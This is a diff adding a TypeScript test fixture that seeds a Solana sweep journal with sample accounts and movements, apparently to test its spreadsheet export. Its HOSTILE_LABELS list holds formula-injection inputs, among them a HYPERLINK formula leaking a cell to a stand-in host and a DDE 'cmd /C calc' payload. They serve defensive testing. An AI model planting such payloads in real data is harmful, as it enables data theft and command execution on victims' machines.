@@ -1,0 +1,88 @@
+import { mkdtempSync, rmSync } from 'node:fs'
+import { tmpdir } from 'node:os'
+import { join } from 'node:path'
+import { onTestFinished } from 'vitest'
+import { lamports } from '../../../src/core/amount/lamports.ts'
+import { slot } from '../../../src/core/chain/slot.ts'
+import { planNativeSweep } from '../../../src/core/plan/native.ts'
+import { openJournal } from '../../../src/main/journal/index.ts'
+import { intentsOf } from '../../../src/main/pay/sweep.ts'
+import { addressOf, blockhashOf, blockOf, draftOf, movementOf, signedOf, TOKEN } from '../journal/samples.ts'
+
+/** What somebody could type as a label to have a spreadsheet do something, or to break the file. */
+export const HOSTILE_LABELS = [
+  '=HYPERLINK("http://example.invalid/?"&A1,"pay here")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '  =1+1',
+  '＝1+1',
+  'a;=1+1',
+  'two\r\nlines, "quoted"',
+  'Zoë 柏林 🦔',
+] as const
+
+export const NOW = Date.UTC(2026, 0, 31, 12, 30, 15, 250)
+
+/** A folder with a journal of a little of everything, the same each time; both go when the test ends. */
+export async function openSampleJournal() {
+  const folder = mkdtempSync(join(tmpdir(), 'strongroom-export-'))
+  const journal = await openJournal({ path: join(folder, 'journal.sqlite'), now: () => NOW })
+  onTestFinished(async () => {
+    await journal.close()
+    rmSync(folder, { recursive: true, force: true })
+  })
+  await journal.write('sample', async (tx) => {
+    await tx.openCursor({ slot: slot(100), blockhash: blockhashOf(100) })
+    await tx.listMint({ mint: addressOf('mint'), tokenProgram: addressOf('token program'), decimals: 6, label: 'Dollar' })
+    await tx.addAccounts(HOSTILE_LABELS.map((label, index) => ({ address: ownerAt(index), role: 'deposit', path: null, label })))
+    await tx.recordBlock(
+      blockOf(
+        101,
+        HOSTILE_LABELS.map((_, index) => movementOf({ name: `in ${index}`, owner: ownerAt(index), after: 2n ** 63n + BigInt(index) })),
+      ),
+    )
+    await tx.recordBlock(
+      blockOf(102, [
+        movementOf({ name: 'token', account: addressOf('token account'), asset: TOKEN, after: 1_500_000n }),
+        movementOf({ name: 'dust', owner: addressOf('dusty'), after: 3n, verdict: { kind: 'no-credit', reason: 'dust' } }),
+        movementOf({ name: 'out', owner: ownerAt(0), before: 2n ** 63n, after: 890_880n, verdict: { kind: 'outgoing' } }),
+        movementOf({
+          name: 'reward',
+          signature: null,
+          owner: addressOf('rewarded'),
+          after: 5n,
+          verdict: { kind: 'credit', class: 'reward' },
+        }),
+      ]),
+    )
+    const intents = intentsOf(samplePlan(), 'sweep')
+    await tx.addSweep({ id: 'sweep', summary: null, intents })
+    for (const { id } of intents.slice(0, 1)) {
+      const attemptId = await tx.addDraft(draftOf(id))
+      await tx.storeSigned(signedOf(attemptId, id))
+      await tx.addBroadcast({ attemptId, node: 'left' })
+      await tx.addEvidence({ attemptId, who: 'left', what: 'landed', slot: slot(103), commitment: 'confirmed', detail: null })
+    }
+  })
+  return { folder, journal }
+}
+
+function ownerAt(index: number) {
+  return addressOf(`owner ${index}`)
+}
+
+/** Eleven accounts: one transaction of ten and one of one. */
+function samplePlan() {
+  const treasury = { address: addressOf('treasury'), lamports: lamports(1_000_000_000n) }
+  return planNativeSweep({
+    sources: HOSTILE_LABELS.map((_, index) => ({ address: ownerAt(index), lamports: lamports(5_000_000n), plain: true })),
+    mode: 'keep-minimum',
+    destination: treasury,
+    treasury,
+    terms: { lamportsPerSignature: lamports(5_000n), rentMinimumLamports: lamports(890_880n) },
+    form: { version: 'legacy', lifetime: { kind: 'blockhash' } },
+  })
+}
